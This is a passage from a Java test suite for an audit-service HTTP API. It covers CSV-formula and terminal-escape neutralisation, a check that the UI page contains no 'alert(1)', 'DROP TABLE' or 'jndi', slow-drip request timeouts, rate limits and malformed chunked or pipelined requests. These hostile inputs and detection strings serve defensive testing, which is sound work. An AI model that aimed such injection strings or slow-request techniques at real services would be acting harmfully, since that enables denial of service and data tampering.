            "\r\n'@SUM(A1),FAILED")
        .contains("\r\n\u001b[31mred\u001b[0m\u0007,FAILED");
    // What the page shows comes as JSON and is set as text; the document itself has none of it.
    String page =
        node.sendWithout("GET", "/ui" + batch.substring("/api/v1".length()), "", "Cookie", cookie)
            .is(200)
            .body();
    assertThat(page).doesNotContain("alert(1)", "DROP TABLE", "jndi");
    try (EventStream feed = node.feed(batch + "/feed")) {
      assertThat(feed.next("snapshot").toString()).contains("=1+1");
    } catch (Exception e) {
      throw new IOException(e);
    }
  }

  @Test
  void exactDuplicateIsSaidToBeOne() {
    String batch = node.opened("");
    String line = file("a").replace("}", ",\"id\":\"once\"}");
    node.events(batch, line).is(200);

    Answer again = node.events(batch, line).is(200);

    assertThat(again.at("/duplicate")).isEqualTo("true");
    assertThat(again.at("/accepted")).isEqualTo("0");
    assertThat(node.get(batch + "/ledger").body().lines()).hasSize(1);
  }

  /** Thirty seconds, in which the three wait side by side. */
  @Test
  void whatComesDropByDropOrNeverIsARequestThatTookTooLong() throws IOException {
    String head = "Host: x\r\nAuthorization: Bearer " + Node.KEY + "\r\nConnection: close\r\n";
    try (Wire drops = new Wire(node.port());
        Wire never = new Wire(node.port());
        Wire lineage = new Wire(node.port());
        Wire noHead = new Wire(node.port())) {
      drops.send(
          "POST "
              + node.opened("")
              + "/events HTTP/1.1\r\n"
              + head
              + "Content-Length: 500\r\n\r\n{");
      never.send("PUT " + Node.fresh() + " HTTP/1.1\r\n" + head + "Content-Length: 500\r\n\r\n{");
      lineage.send("POST /api/v1/lineage HTTP/1.1\r\n" + head + "Content-Length: 500\r\n\r\n{");
      noHead.send("GET /api/v1/batches HTTP/1.1\r\nHost");
      for (int i = 0; i < 6 && !drops.isClosedWithin(5_000); i++) {
        drops.send(" ");
      }
      for (Wire wire : List.of(drops, never, lineage, noHead)) {
        Answer answer = wire.whole().answers().get(0).answer();
        assertThat(answer.status()).as("%s", answer).isEqualTo(408);
        assertThat(answer.at("/type")).isEqualTo("/problems/request-timeout");
      }
      assertThat(drops.text()).contains("bytes in 2");
    }
  }

  @Test
  void tooManyRequestsAndTooManyFeedsAreToldWhenToComeAgain() throws Exception {
    try (Node small = Node.start("AUDIT_KEY_CONCURRENCY", "2", "AUDIT_KEY_RATE", "20")) {
      try (EventStream one = small.feed("/api/v1/feed");
          EventStream two = small.feed("/api/v1/feed")) {
        one.next("tick");
        two.next("tick");
        Answer refused = small.get("/api/v1/feed").isProblem(429, "too-many-requests");
        assertThat(refused.header("Retry-After")).matches("[1-9][0-9]*");
        assertThat(refused.at("/detail")).contains("AUDIT_KEY_CONCURRENCY");
      }
      Answer last = small.get("/api/v1/session");
      for (int i = 0; i < 10_000 && !last.body().contains("AUDIT_KEY_RATE"); i++) {
        last = small.get("/api/v1/session");
      }
      assertThat(last.isProblem(429, "too-many-requests").header("Retry-After")).isEqualTo("2");
    }
  }

  @Test
  void storeThatIsAwayIsUnavailableForNow() throws Exception {
    AtomicBoolean away = new AtomicBoolean();
    MemoryAuditStore store = new MemoryAuditStore(InstantSource.system());
    ProblemsTest.WholeStore failing =
        (ProblemsTest.WholeStore)
            Proxy.newProxyInstance(
                BadInputTest.class.getClassLoader(),
                new Class<?>[] {ProblemsTest.WholeStore.class},
                (proxy, method, arguments) -> {
                  if (away.get() && method.getDeclaringClass() == AuditStore.class) {
                    AuditException error =
                        new AuditException(ProblemType.UNAVAILABLE, "the database is away");
                    return method.getReturnType() == Flux.class
                        ? Flux.error(error)
                        : Mono.error(error);
                  }
                  try {
                    return method.invoke(store, arguments);
                  } catch (InvocationTargetException e) {
                    throw e.getCause();
                  }
                });
    try (Node broken = Node.start(failing)) {
      String batch = broken.opened("");
      away.set(true);
      for (Answer refused :
          List.of(
              broken.events(batch, file("a")),
              broken.send("PUT", Node.fresh(), "{}"),
              broken.send("PUT", batch + "/status", "{\"status\":\"FAILED\"}"),
              broken.send("PATCH", batch, "{\"labels\":{\"a\":\"b\"}}"),
              broken.get(batch),
              broken.get(batch + "/files"),
              broken.get("/api/v1/batches"))) {
        refused.isProblem(503, "unavailable");
        assertThat(refused.header("Retry-After")).matches("[1-9][0-9]*");
      }
      away.set(false);
      assertThat(broken.events(batch, file("a")).is(200).at("/accepted")).isEqualTo("1");
    }
  }

  @Test
  void tenThousandRefusalsOfLongNamesFitIntoAnAnswer() {
    String batch = node.opened("");
    String name = UUID.randomUUID() + "y".repeat(2_000);
    String line = "{\"type\":\"STARTED\",\"file\":\"a\",\"" + name + "\":1}\n";

    Answer refused = node.events(batch, line.repeat(1_000)).isProblem(422, "invalid-event");

    assertThat(refused.at("/refused")).isEqualTo("1000");
    assertThat(refused.body().length()).isLessThan(300_000);
  }

  /** A client must not be able to fill the log. */
  @Test
  void whatCannotBeReadBehindAnAnswerIsNoErrorOfTheService() throws IOException {
    Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    ListAppender<ILoggingEvent> logged = new ListAppender<>();
    logged.start();
    root.addAppender(logged);
    String batch = node.opened("");
    try {
      for (String line :
          List.of(
              "POST {open}/events HTTP/1.1\r\nContent-Type: text/plain",
              "POST {open}/events HTTP/1.1",
              "PUT {open}/heartbeat HTTP/1.1",
              "PUT {open}/status HTTP/1.1",
              "POST /api/v1/lineage HTTP/1.1",
              "GET {open}/files HTTP/1.1\r\nConnection: close",
              "POST {open}/events HTTP/1.1\r\nConnection: close\r\nContent-Type: text/plain",
              "GET /problems/not-found HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\nPOST {open}/events HTTP/1.1",
              "GET /%zz HTTP/1.1\r\nHost: x\r\n\r\nPOST {open}/events HTTP/1.1",
              "GET {open}/files HTTP/1.1",
              "GET /ui/files/page.css HTTP/1.1")) {
        for (String rest : List.of("0\r\na b: c\r\n\r\n", "zz\r\n", "0\r\nX: \u0000\r\n\r\n")) {
          behindAnAnswer(line.replace("{open}", batch), rest);
        }
      }
    } finally {
      root.detachAppender(logged);
    }
    assertThat(List.copyOf(logged.list))
        .filteredOn(event -> event.getLevel().isGreaterOrEqual(Level.ERROR))
        .isEmpty();
  }

  private static void behindAnAnswer(String line, String rest) throws IOException {
    String begun =
        line
            + "\r\nHost: x\r\nAuthorization: Bearer "
            + Node.KEY
            + "\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n";
    try (Wire atOnce = new Wire(node.port());
        Wire later = new Wire(node.port())) {
      atOnce.send(begun + rest);
      later.send(begun);
      later.isClosedWithin(50);
      later.send(rest);
      assertThat(atOnce.whole().text()).startsWith("HTTP/1.1 ");
      assertThat(later.whole().text()).startsWith("HTTP/1.1 ");
    }
  }
}
